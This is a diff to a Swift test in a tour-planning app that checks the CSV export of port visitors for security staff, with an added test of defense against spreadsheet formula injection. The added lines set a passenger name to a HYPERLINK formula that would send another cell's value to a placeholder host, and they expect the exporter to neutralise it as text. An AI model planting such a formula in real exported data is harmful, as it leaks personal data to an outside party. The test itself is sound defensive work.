@@ -150,6 +150,10 @@ import Testing
             let portVisitors = Set(plan.tours.filter { $0.stops.contains { $0.venueID == "lien-chieu-port" } }.flatMap(\.passengers))
             #expect(Set(entries.map(\.registrationID)) == portVisitors)
             #expect(entries.allSatisfy { !$0.number.isEmpty })
+            // The CSV site security opens in a spreadsheet: a name that is a formula stays text.
+            var forged = try #require(entries.first)
+            forged.fullName = "=HYPERLINK(\"https://x.example/?\"&E3,\"Li Wei\")"
+            #expect(ItinerariesHTTP.csv([forged]).contains(",\"'=HYPERLINK("))
 
             // The plan's value and how long planning takes, for the dashboard.
             let (metrics, _) = try await URLSession.shared.data(from: URL(string: "http://127.0.0.1:\(port)/metrics")!)
